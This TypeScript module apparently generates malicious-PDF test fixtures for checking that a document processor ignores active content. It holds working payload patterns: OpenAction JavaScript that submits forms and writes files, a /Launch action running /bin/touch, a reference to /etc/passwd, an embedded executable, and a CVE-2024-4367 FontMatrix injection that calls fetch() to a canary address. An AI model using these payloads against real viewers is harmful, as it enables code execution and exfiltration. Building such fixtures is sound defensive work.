import { statementContent, statementPdf, stream } from './raw-pdf.js'

/** Where hostile documents point: nothing may ever be written or asked there. */
export interface Canary {
  readonly file: string
  readonly address: string
}

const withAnnotation = (annotation: string, more: readonly (string | Uint8Array)[] = []) =>
  statementPdf({ page: `/MediaBox [0 0 595 842] /Annots [6 0 R]`, more: [annotation, ...more] })
const rectangle = '/Rect [0 0 595 842]'

/** PDFs that want something done: a program run, an address asked, a script executed. */
export function activeContent({ file, address }: Canary) {
  const script = `this.submitForm("${address}"); app.launchURL("${address}"); require("fs").writeFileSync("${file}", "")`
  // what CVE-2024-4367 put where numbers belong, once the matrix was made into a program
  const matrix = `1 2 3 4 5 (1); require\\('fs'\\).writeFileSync\\('${file}', ''\\); fetch\\('${address}'\\))`
  const action = (what: string) => () => statementPdf({ catalog: `/OpenAction << ${what} >>` })
  return {
    'script.pdf': action(`/S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')})`),
    'launch.pdf': action(`/S /Launch /F (/bin/touch) /Win << /F (touch) /P (${file}) >>`),
    'address.pdf': action(`/S /URI /URI (${address})`),
    'elsewhere.pdf': action('/S /GoToR /F (/etc/passwd) /D [0 /Fit]'),
    'submit.pdf': action(`/S /SubmitForm /F << /FS /URL /F (${address}) >>`),
    'remote-stream.pdf': () =>
      statementPdf({ content: Buffer.from(`<< /Length 0 /F << /FS /URL /F (${address}) >> >>\nstream\n\nendstream`) }),
    'link.pdf': () =>
      withAnnotation(`<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /URI /URI (${address}) >> >>`),
    'font-matrix.pdf': () =>
      statementPdf({
        page: '/MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R /F2 6 0 R >> >>',
        content: stream(`${statementContent}\nBT /F2 11 Tf 1 0 0 1 50 90 Tm (shown) Tj ET`),
        more: [
          '<< /Type /Font /Subtype /Type1 /BaseFont /Poison /FontDescriptor 7 0 R /FirstChar 32 /LastChar 32 /Widths [9] >>',
          `<< /Type /FontDescriptor /FontName /Poison /Flags 4 /FontMatrix [${matrix}] /FontFile 8 0 R >>`,
          stream(
            `%!PS-AdobeFont-1.0\n/FontMatrix [${matrix}] readonly def\neexec`,
            '/Length1 60 /Length2 0 /Length3 0',
          ),
        ],
      }),
    'attachment.pdf': () =>
      statementPdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        more: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')],
      }),
    'signed.pdf': () =>
      statementPdf({
        catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >>',
        more: [
          `<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [0 0 0 0] /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >> >>`,
        ],
      }),
    'form-field.pdf': () =>
      withAnnotation(
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (sum) /V (999 999) /F 4 /Rect [316 622 380 642] /AP << /N 7 0 R >> >>',
        [
          stream(
            '1 1 1 rg 0 0 64 20 re f 0 g BT /F1 11 Tf 1 0 0 1 4 6 Tm (999 999) Tj ET',
            '/Type /XObject /Subtype /Form /BBox [0 0 64 20] /Resources << /Font << /F1 4 0 R >> >>',
          ),
        ],
      ),
  } satisfies Record<string, () => Uint8Array>
}
